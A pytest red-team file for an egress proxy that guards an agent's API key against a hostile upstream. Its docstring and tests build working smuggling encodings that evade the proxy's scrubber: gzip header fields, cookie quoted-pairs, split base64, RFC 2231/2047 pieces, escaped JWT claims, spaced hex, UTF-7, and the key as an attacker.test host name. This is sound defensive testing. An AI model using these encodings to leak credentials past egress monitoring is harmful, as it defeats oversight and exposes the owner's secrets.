"""Red team, ninth pass: the OUTBOUND direction (invariant 2). The agent holds a real value (the
``rtapi`` key, bound to api.openai.com only) and tries to get it out through the proxy to the
hostile upstream (tests/proxy/test_redteam.py's world), in a form a receiving server reads back
without being told how: its own HTTP/MIME parsing, a cookie jar, a JWT library, a multipart parser.
Each test shows the reader on the bytes the attack writes, then sends them through the proxy. A
break (the value reaches the upstream readable) is marked ``xfail(strict=True)``.

Fixed on merging (main, 2026-12-03): ``compressed-body-metadata`` -- an encoded request body is
now checked as sent too, not only decoded (a passing test below).

Fixed since (branch fix-rt9), each as a family, not only the bytes below (proxy/core/scrub.py's
views, proxy/core/values.py's forms; table and property tests in tests/proxy/core/test_scrub.py):
``cookie-quoted-pair`` (a quoted-pair view: every backslash dropped, JavaScript's identity escapes
too), ``multipart-base64-short-lines`` (a part declared base64 is read with every byte outside the
alphabet skipped, as ``a2b_base64`` does), ``rfc2047-encoded-words-split`` (adjacent encoded-words
decoded and joined), ``rfc2231-continuations`` (the pieces joined in the order written) and
``jwt-payload-json-escape`` (base64url runs of JSON, ``eyJ...``, decoded, then their escapes read)
and ``utf7-body-past-8-kib-with-an-unended-run`` (a request body held whole whose Content-Type
declares UTF-7 is also read whole as UTF-7: the declaration is the gate). Still breaking:
``hex-with-spaces`` (no cheap gate, no cheap form: see its mark). ``value-split-over-two-requests``
held later (2026-12-04): requests are searched for the runs of a value with 31 or more characters
past its prefix, and one half of such a value is a run (a shorter value's halves still pass).

Breaks (as found):

- ``compressed-body-metadata``: a ``Content-Encoding: gzip`` (or zstd) body is checked decoded
  only (``Exchange._body_texts`` replaces the raw bytes by the decoded ones), so a value in the
  gzip header's FNAME / FCOMMENT / FEXTRA field, or in a zstd skippable frame, is forwarded in the
  raw bytes, plain.
- ``cookie-quoted-pair``: ``Cookie: k="r\\t\\R..."`` -- each character a quoted-pair. No view
  undoes ``\\<char>`` (only the JSON/C/Python/CSS escapes); ``http.cookies._unquote`` (what
  Django's ``parse_cookie`` calls) and any RFC 6265/9110 quoted-string reader do.
- ``multipart-base64-short-lines``: a multipart/form-data part with ``Content-Transfer-Encoding:
  base64``, the base64 broken every 8 characters (CRLF) or every 4 (a space). The fixed base64 forms
  need an unbroken run; the wrapped-base64 view needs 16 characters before each break. The stdlib
  ``email`` parser (``binascii.a2b_base64``) and Django's MultiPartParser (``b"".join(chunk.split())``)
  decode it.
- ``rfc2231-continuations``: ``filename*0="<first half>"; filename*1="<second half>"`` in a part's
  Content-Disposition: ``email``'s ``get_filename()`` (aiohttp's ``content_disposition_filename``
  too) joins the pieces into the value.
- ``jwt-payload-json-escape``: a JWT whose payload is ``{"sub": "rt\\u0052EAL..."}``: views are not
  applied under base64, and the base64 forms need the value contiguous in the encoded text. Every
  JWT library's (unverified) decode reads ``sub``: the value.
- ``value-split-over-two-requests``: two POSTs on one connection, each body half the value:
  each body is checked alone; the upstream joins them.
- ``rfc2047-encoded-words-split``: ``X-Subject: =?utf-8?b?<half>?= =?utf-8?b?<half>?=``: each
  word's base64 holds half; ``email.header`` joins adjacent encoded-words: the value.
- ``hex-with-spaces``: ``72 74 52 45 ...``: hex is a form only contiguous; ``bytes.fromhex``
  skips the spaces.
- ``utf7-body-past-8-kib-with-an-unended-run`` (red team 8's suspicion, confirmed end to end): a
  ``charset=utf-7`` body over UTF7_IMPLICIT_MAX whose value ends in a run closed by the end of the
  body (no ``-``, no ended run anywhere): the UTF-7 view is not made; ``decode("utf-7")`` reads it.

Held (passing tests): a value in chunk extensions or trailers (dropped by the re-framing), a
percent-encoded value split inside an escape across the chunks of a streamed body, a value split
across two gzip members, a quoted-printable part with soft line breaks, target forms (``;`` query
separator, fragment, JavaScript ``%u`` escapes, twice percent-encoded), a WebSocket frame compressed
(RSV1) without the extension negotiated, a UTF-16LE value fragmented over masked binary frames, and
the value as the TLS server name or a plain-proxy host name (nothing sent, nothing in the logs).
"""

from __future__ import annotations

import base64
import email
import email.header
import email.message
import gzip
import http.cookies
import json
import os
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable
from urllib.parse import quote, unquote

import pytest

from tests.conftest import needs_root
from tests.proxy import test_redteam as world
from tests.proxy.test_redteam import (
    API,
    HOSTILE_NAME,
    _upstream_frames,
    ask,
    leaked,
    recv_all,
    tls_to,
    tunnel_unverified,
    ws_handshake,
    ws_open,
)
from tests.support.clients import Reply, parse_http
from tests.support.hostile import HostileServer, Request, Wire, ws_frame
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

hostile_ca, hostile, rt = world.hostile_ca, world.hostile, world.rt

V = API.real  # bound to api.openai.com: toward the hostile host it must never leave, in any form


def _req(method: str, path: str, *headers: str, body: bytes = b"", length: bool = True) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {HOSTILE_NAME}", *headers]
    if body and length:
        lines.append(f"Content-Length: {len(body)}")
    lines.append("Connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def _send(rt: ProxyProcess, hostile: HostileServer, raw: bytes) -> tuple[Reply, list[Request]]:
    """``raw`` through a tunnel to the hostile host: (the agent's answer, what the upstream got)."""
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, raw)
    return reply, hostile.requests[before:]


def _held(reply: Reply, seen: list[Request], reads: list[str]) -> None:
    """The proxy stopped it: refused, or nothing the upstream received reads as the value."""
    assert not [r for r in reads if V in r], "the upstream read the real value"
    assert reply.reason == "secret_value_outbound" or not seen, (reply.status, reply.reason)


# == breaks =======================================================================================


def _gzip_with(field: str, text: bytes) -> bytes:
    """A gzip member of ``text`` whose header carries the value in ``field`` (RFC 1952)."""
    flags, extra = {"fextra": (0x04, b""), "fname": (0x08, b""), "fcomment": (0x10, b"")}[field]
    head = b"\x1f\x8b\x08" + bytes([flags]) + b"\0\0\0\0\0\xff"
    if field == "fextra":
        sub = b"SG" + len(V).to_bytes(2, "little") + V.encode()
        extra = len(sub).to_bytes(2, "little") + sub
    else:
        extra = V.encode() + b"\0"
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(text) + c.flush()
    return head + extra + data + struct.pack("<II", zlib.crc32(text), len(text))


def _zstd_skippable(text: bytes) -> bytes:
    from backports import zstd

    skip = struct.pack("<II", 0x184D2A50, len(V)) + V.encode()
    return skip + bytes(zstd.compress(text))


COMPRESSED: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "gzip-fname": ("gzip", lambda t: _gzip_with("fname", t)),
    "gzip-fcomment": ("gzip", lambda t: _gzip_with("fcomment", t)),
    "gzip-fextra": ("gzip", lambda t: _gzip_with("fextra", t)),
    "zstd-skippable-frame": ("zstd", _zstd_skippable),
}


@pytest.mark.parametrize("shape", list(COMPRESSED))
def test_rt9_compressed_body_metadata_carries_the_value(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    """A POST whose ``Content-Encoding: gzip`` body decodes to ``{"ok": 1}`` and whose gzip header
    holds the value in FNAME, FCOMMENT or an FEXTRA subfield (zstd: a skippable frame before the
    data). The proxy checks the decoded text (and its views) only, never the raw bytes it forwards:
    the value goes out plain (``gzip -lN`` prints FNAME; any reader of the raw body sees it)."""
    coding, make = COMPRESSED[shape]
    body = make(b'{"ok": 1}')
    assert V.encode() in body
    if coding == "gzip":
        assert gzip.decompress(body) == b'{"ok": 1}'  # a valid body: every decoder takes it
    reply, seen = _send(rt, hostile, _req("POST", f"/rt9/{shape}", f"Content-Encoding: {coding}", body=body))
    _held(reply, seen, [r.body.decode("latin-1") for r in seen])


def _quoted_pairs(text: str) -> str:
    return '"' + "".join("\\" + c for c in text) + '"'


def test_rt9_cookie_quoted_pair_escapes(rt: ProxyProcess, hostile: HostileServer) -> None:
    """``Cookie: k="\\r\\t\\R\\E..."``: a cookie value as a quoted-string, every character a
    quoted-pair. ``http.cookies`` (``SimpleCookie`` and ``_unquote``, which Django's
    ``parse_cookie`` calls on every cookie) reads the value."""
    header = f"a=1; k={_quoted_pairs(V)}"
    jar: http.cookies.SimpleCookie = http.cookies.SimpleCookie()
    jar.load(header)
    assert jar["k"].value == V  # (the reader, on the raw header)
    reply, seen = _send(rt, hostile, _req("GET", "/rt9/cookie", f"Cookie: {header}"))

    def read(r: Request) -> str:
        got: http.cookies.SimpleCookie = http.cookies.SimpleCookie()
        got.load(r.header("cookie"))
        return got["k"].value if "k" in got else ""

    _held(reply, seen, [read(r) for r in seen])


BOUNDARY = "rt9boundary"


def _multipart(part_headers: list[str], payload: bytes) -> bytes:
    return (
        f"--{BOUNDARY}\r\n".encode()
        + "".join(h + "\r\n" for h in part_headers).encode()
        + b"\r\n"
        + payload
        + f"\r\n--{BOUNDARY}--\r\n".encode()
    )


def _parts(body: bytes) -> list[email.message.Message]:
    """The parts as the stdlib ``email`` parser reads multipart/form-data (as ``cgi`` did)."""
    msg = email.message_from_bytes(f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n\r\n".encode() + body)
    parts = msg.get_payload()
    assert isinstance(parts, list)
    return [p for p in parts if isinstance(p, email.message.Message)]


def _post_multipart(rt: ProxyProcess, hostile: HostileServer, path: str, body: bytes) -> tuple[Reply, list[Request]]:
    ctype = f"Content-Type: multipart/form-data; boundary={BOUNDARY}"
    return _send(rt, hostile, _req("POST", path, ctype, body=body))


def _broken_base64(sep: bytes, every: int) -> bytes:
    b64 = base64.b64encode(V.encode())
    return sep.join(b64[i : i + every] for i in range(0, len(b64), every))


@pytest.mark.parametrize(("sep", "every"), [(b"\r\n", 8), (b" ", 4)], ids=["crlf-every-8", "space-every-4"])
def test_rt9_multipart_base64_short_lines(rt: ProxyProcess, hostile: HostileServer, sep: bytes, every: int) -> None:
    """A form-data part with ``Content-Transfer-Encoding: base64``, its base64 broken every few
    characters. ``email`` decodes it (``a2b_base64`` skips what is not base64), as does Django's
    MultiPartParser (whitespace stripped, then ``b64decode``)."""
    body = _multipart(
        ['Content-Disposition: form-data; name="file"; filename="k.txt"', "Content-Transfer-Encoding: base64"],
        _broken_base64(sep, every),
    )
    assert _parts(body)[0].get_payload(decode=True) == V.encode()  # (the reader, on the raw body)
    reply, seen = _post_multipart(rt, hostile, "/rt9/multipart-b64", body)

    def read(r: Request) -> str:
        got = _parts(r.body)[0].get_payload(decode=True)
        return got.decode("latin-1") if isinstance(got, bytes) else ""

    _held(reply, seen, [read(r) for r in seen])


def test_rt9_rfc2231_filename_continuations(rt: ProxyProcess, hostile: HostileServer) -> None:
    """``filename*0="<first half>"; filename*1="<second half>"`` in a form-data part: RFC 2231
    continuations, which ``email.message.Message.get_filename`` (and aiohttp's
    ``content_disposition_filename``) join into one name: the value."""
    half = len(V) // 2
    disposition = f'Content-Disposition: form-data; name="f"; filename*0="{V[:half]}"; filename*1="{V[half:]}"'
    body = _multipart([disposition, "Content-Type: text/plain"], b"hello")
    assert _parts(body)[0].get_filename() == V  # (the reader, on the raw body)
    reply, seen = _post_multipart(rt, hostile, "/rt9/rfc2231", body)
    _held(reply, seen, [str(_parts(r.body)[0].get_filename()) for r in seen])


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def _jwt(claims: str) -> str:
    head = _b64url(b'{"alg":"none","typ":"JWT"}')
    return f"{head}.{_b64url(claims.encode())}."


def _jwt_sub(token: str) -> str:
    payload = token.split(".")[1]
    return str(json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))["sub"])


@pytest.mark.parametrize("where", ["header", "query"])
def test_rt9_jwt_payload_with_a_json_escape(rt: ProxyProcess, hostile: HostileServer, where: str) -> None:
    """An unsigned JWT whose ``sub`` is the value with one character JSON-escaped
    (``rt\\u0052EAL...``), in a header or a query parameter. Every JWT library's decode (and
    ``json.loads`` of the base64url payload) reads ``sub``: the value."""
    token = _jwt('{"sub":"' + V[:2] + f"\\u{ord(V[2]):04x}" + V[3:] + '"}')
    assert _jwt_sub(token) == V  # (the reader)
    raw = (
        _req("GET", "/rt9/jwt", f"X-Id-Token: {token}")
        if where == "header"
        else _req("GET", f"/rt9/jwt?id_token={token}")
    )
    reply, seen = _send(rt, hostile, raw)

    def read(r: Request) -> str:
        t = r.header("x-id-token") if where == "header" else unquote(r.path.partition("id_token=")[2])
        return _jwt_sub(t) if t.count(".") == 2 else ""

    _held(reply, seen, [read(r) for r in seen])


def test_rt9_value_split_over_two_requests_on_one_connection(rt: ProxyProcess, hostile: HostileServer) -> None:
    """Two pipelined POSTs on one connection, the first body ending with the value's first half,
    the second beginning with the rest; the upstream (a log, a chunked upload session) joins them."""
    half = len(V) // 2
    first = ("\r\n".join(["POST /rt9/split-1 HTTP/1.1", f"Host: {HOSTILE_NAME}", f"Content-Length: {half + 5}"])
             + "\r\n\r\n" + "part=" + V[:half]).encode()  # fmt: skip
    second = _req("POST", "/rt9/split-2", body=V[half:].encode() + b"&end=1")
    before = len(hostile.requests)
    s = tls_to(rt, HOSTILE_NAME)
    s.sendall(first + second)
    got = recv_all(s)
    seen = hostile.requests[before:]
    joined = b"".join(r.body for r in seen if r.path.startswith("/rt9/split-")).decode("latin-1")
    assert b"secret_value_outbound" in got or V not in joined.replace("part=", ""), "the upstream joined the halves"


def _rfc2047(text: str) -> str:
    return str(email.header.make_header(email.header.decode_header(text)))


def test_rt9_rfc2047_encoded_words_split(rt: ProxyProcess, hostile: HostileServer) -> None:
    """``X-Subject: =?utf-8?b?<half>?= =?utf-8?b?<half>?=``: two RFC 2047 encoded-words, each the
    base64 of half the value. Adjacent encoded-words are one text (the space between them is not
    part of it): ``email.header.decode_header`` / ``make_header`` read the value."""
    half = len(V) // 2
    words = " ".join(f"=?utf-8?b?{base64.b64encode(p.encode()).decode()}?=" for p in (V[:half], V[half:]))
    assert _rfc2047(words) == V  # (the reader)
    reply, seen = _send(rt, hostile, _req("GET", "/rt9/rfc2047", f"X-Subject: {words}"))
    _held(reply, seen, [_rfc2047(r.header("x-subject")) for r in seen])


@pytest.mark.xfail(
    strict=True,
    reason="hex is a form only when contiguous: as forms, separated hex tipped the automaton's prefilter "
    "(5 secrets: ~25 to ~600-900 us per 64 KiB of base64, hex or prose); as a view, its gate reads "
    "bytes all text has (a separator between hex pairs: ~130-220 us per 64 KiB of prose)",
)
def test_rt9_hex_with_spaces(rt: ProxyProcess, hostile: HostileServer) -> None:
    """``X-Key-Hex: 72 74 52 45 ...``: the value's bytes in hex, a space between each (a dump, a
    fingerprint). ``bytes.fromhex`` reads it."""
    spaced = " ".join(f"{b:02x}" for b in V.encode())
    assert bytes.fromhex(spaced).decode() == V  # (the reader)
    reply, seen = _send(rt, hostile, _req("GET", "/rt9/hex", f"X-Key-Hex: {spaced}"))
    _held(reply, seen, [bytes.fromhex(r.header("x-key-hex")).decode("latin-1") for r in seen])


def test_rt9_utf7_body_past_8_kib_with_an_unended_run(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A ``text/plain; charset=utf-7`` body of 9 KB: padding, then the value with its last
    character in a UTF-7 run that ends at the end of the body (no ``-``: a decoder ends it there).
    Red team 8's suspicion, end to end: ``body.decode("utf-7")`` reads the value."""
    run = V[-1].encode("utf-16-be")
    tail = V[:-1] + "+" + base64.b64encode(run).decode().rstrip("=")
    body = b"n" * 9000 + b" " + tail.encode()
    assert body.decode("utf-7").endswith(V) and V.encode() not in body  # (the reader)
    reply, seen = _send(rt, hostile, _req("POST", "/rt9/utf7", "Content-Type: text/plain; charset=utf-7", body=body))
    _held(reply, seen, [r.body.decode("utf-7", "replace") for r in seen])


# == held =========================================================================================


def test_rt9_chunk_extensions_and_trailers_never_carry_the_value(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A chunked POST: the value in a chunk extension and in a trailer field (neither is part of
    the body the checks read). Held: the proxy re-frames the body and sends no trailers."""
    before = len(hostile.raw)
    body = (f'5;note={V}\r\nhello\r\n5;note="{V}"\r\nworld\r\n0\r\nX-Trailer: {V}\r\n\r\n').encode()
    reply, seen = _send(rt, hostile, _req("POST", "/rt9/trailers", "Transfer-Encoding: chunked", "Trailer: X-Trailer",
                                          body=body, length=False))  # fmt: skip
    raw = b"".join(hostile.raw[before:]).decode("latin-1")
    assert V not in raw and V.lower() not in raw
    assert reply.reason == "secret_value_outbound" or [r.body for r in seen] == [b"helloworld"], reply


def test_rt9_streamed_body_percent_escape_split_across_chunks(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A chunked (streamed, not held whole) form body of 300 KB, the value percent-encoded and the
    chunks cut inside an escape (``...%7`` | ``2%74...``), sent with pauses. Held: refused or cut."""
    pct = "".join(f"%{ord(c):02X}" for c in V).encode()
    data = b"pad=" + b"a" * 300_000 + b"&k=" + pct + b"&z=1"
    cut = data.index(pct) + 31  # inside the 11th escape
    s = tls_to(rt, HOSTILE_NAME)
    before = len(hostile.requests)
    s.sendall(_req("POST", "/rt9/stream-pct", "Transfer-Encoding: chunked",
                   "Content-Type: application/x-www-form-urlencoded"))  # fmt: skip
    for piece in (data[:cut], data[cut:]):
        s.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
        time.sleep(0.2)
    s.sendall(b"0\r\n\r\n")
    got = recv_all(s)
    seen = hostile.requests[before:]
    assert not [r for r in seen if V in unquote(r.body.decode("latin-1"))], "the upstream decoded the value"
    assert b"secret_value_outbound" in got or not got.startswith(b"HTTP/1.1 200"), got[:200]


def test_rt9_value_split_across_two_gzip_members(rt: ProxyProcess, hostile: HostileServer) -> None:
    """``Content-Encoding: gzip``, two members, the value split between them (``gzip.decompress``
    joins members). Held: refused."""
    half = len(V) // 2
    body = gzip.compress(b'{"k": "' + V[:half].encode()) + gzip.compress(V[half:].encode() + b'"}')
    assert V.encode() in gzip.decompress(body)
    reply, seen = _send(rt, hostile, _req("POST", "/rt9/gzip-members", "Content-Encoding: gzip", body=body))
    _held(reply, seen, [gzip.decompress(r.body).decode("latin-1") for r in seen])


def test_rt9_multipart_quoted_printable_soft_breaks(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A part with ``Content-Transfer-Encoding: quoted-printable``: every character ``=HH``, a soft
    line break (``=\\r\\n``) every three. Held: the quoted-printable view removes soft breaks."""
    escaped = [f"={ord(c):02X}" for c in V]
    qp = "=\r\n".join("".join(escaped[i : i + 3]) for i in range(0, len(escaped), 3)).encode()
    body = _multipart(['Content-Disposition: form-data; name="k"', "Content-Transfer-Encoding: quoted-printable"], qp)
    assert _parts(body)[0].get_payload(decode=True) == V.encode()
    reply, seen = _post_multipart(rt, hostile, "/rt9/multipart-qp", body)
    _held(reply, seen, [str(_parts(r.body)[0].get_payload(decode=True)) for r in seen])


TARGETS: dict[str, Callable[[], str]] = {
    "semicolon-separator": lambda: "/rt9/t?a=1;k=" + quote(V, safe=""),
    "fragment": lambda: "/rt9/t#" + V,
    "js-u-escapes": lambda: "/rt9/t?k=" + "".join(f"%u{ord(c):04X}" for c in V),
    "twice-percent-encoded": lambda: "/rt9/t?k=" + quote(quote(V, safe=""), safe=""),
    "absolute-form-userinfo": lambda: f"https://u:{quote(V, safe='')}@{HOSTILE_NAME}/rt9/t",
}


@pytest.mark.parametrize("shape", list(TARGETS))
def test_rt9_request_target_forms(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    """The value in the request target: after a ``;`` query separator, in a fragment, as
    JavaScript ``%uXXXX`` escapes, percent-encoded twice, in absolute-form userinfo. Held."""
    reply, seen = _send(rt, hostile, _req("GET", TARGETS[shape]()))
    reads = [unquote(unquote(r.path)) + r.raw_head.decode("latin-1") for r in seen]
    reads += [bytes(int(h, 16) for h in r.path.split("%u")[1:]).decode() for r in seen if "%u" in r.path]
    _held(reply, seen, reads)


def _ws_out(rt: ProxyProcess, hostile: HostileServer, path: str, frames: list[bytes]) -> list[tuple[bool, int, bytes]]:
    """A WebSocket to the hostile host; the agent sends ``frames``; what the upstream received."""
    received: list[tuple[bool, int, bytes]] = []
    done = threading.Event()

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        received.extend(await _upstream_frames(w, len(frames)))
        done.set()
        w.keep = False

    s, head = ws_open(rt, path)
    assert head.startswith(b"HTTP/1.1 101"), head[:100]
    for f in frames:
        s.sendall(f)
        time.sleep(0.1)
    recv_all(s, 3)
    done.wait(5)
    return received


def test_rt9_websocket_compressed_frame_without_the_extension(rt: ProxyProcess, hostile: HostileServer) -> None:
    """The agent sends a text frame with RSV1 set (permessage-deflate, never negotiated: the proxy
    strips the offer) whose deflated payload is the value; a hostile upstream would inflate it
    regardless. Held: nothing that inflates to the value is relayed."""
    c = zlib.compressobj(wbits=-15)
    data = c.compress(b"k=" + V.encode()) + c.flush(zlib.Z_SYNC_FLUSH)
    frame = bytearray(ws_frame(0x1, data[:-4], mask=os.urandom(4)))
    frame[0] |= 0x40  # RSV1
    received = _ws_out(rt, hostile, "/rt9/ws-rsv1", [bytes(frame)])
    for _, _, payload in received:
        d = zlib.decompressobj(wbits=-15)
        try:
            text = d.decompress(payload + b"\x00\x00\xff\xff")
        except zlib.error:
            text = b""
        assert V.encode() not in text + payload


def test_rt9_websocket_utf16_value_over_masked_binary_fragments(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A binary message, three masked fragments, carrying the value in UTF-16LE, cut between
    bytes of one character. Held: closed, nothing of the value relayed."""
    data = b"\xff\xfe" + V.encode("utf-16-le")
    cuts = [0, 23, 51, len(data)]
    frames = [
        ws_frame(0x2 if i == 0 else 0x0, data[cuts[i] : cuts[i + 1]], fin=i == 2, mask=os.urandom(4)) for i in range(3)
    ]
    received = _ws_out(rt, hostile, "/rt9/ws-utf16", frames)
    joined = b"".join(p for _, op, p in received if op in (0x0, 0x2))
    assert V not in joined.decode("utf-16-le", "replace") and V.encode("utf-16-le") not in joined


def _plain_proxy_host(rt: ProxyProcess) -> bytes:
    with socket.create_connection(("127.0.0.1", rt.port), timeout=10) as s:
        host = f"{V.lower()}.attacker.test"
        s.sendall(f"GET http://{host}/x HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return recv_all(s)


def _sni(rt: ProxyProcess) -> bytes:
    try:
        s = tunnel_unverified(rt, f"{HOSTILE_NAME}:443", V.lower())
        s.sendall(_req("GET", "/rt9/sni"))
        return recv_all(s)
    except (OSError, ConnectionResetError) as e:
        return repr(e).encode()


@pytest.mark.parametrize("where", ["tls-server-name", "plain-proxy-host"])
def test_rt9_value_as_a_host_name_never_leaves_nor_lands_in_the_logs(
    rt: ProxyProcess, hostile: HostileServer, where: str
) -> None:
    """The value (lowercased: a valid DNS label) as the TLS server name of a tunnel to the hostile
    host, or as the host of a plain-proxy request. Held: nothing reaches the upstream with it, and
    the audit log and stderr written meanwhile hold no form of it."""
    marks = {k: len(v) for k, v in rt.outputs().items()}
    before, raw_before = len(hostile.requests), len(hostile.raw)
    answer = _sni(rt) if where == "tls-server-name" else _plain_proxy_host(rt)
    time.sleep(0.3)
    upstream = [r.sni or "" for r in hostile.requests[before:]] + [
        b.decode("latin-1") for b in hostile.raw[raw_before:]
    ]
    assert not [u for u in upstream if V.lower() in u.lower()]
    outputs = {k: v[marks[k] :] for k, v in rt.outputs().items()} | {"answer": answer.decode("latin-1")}
    assert {k: leaked(v, API) for k, v in outputs.items()} == {k: [] for k in outputs}
    assert parse_http(answer.decode("latin-1")).status != 200 or where == "tls-server-name"
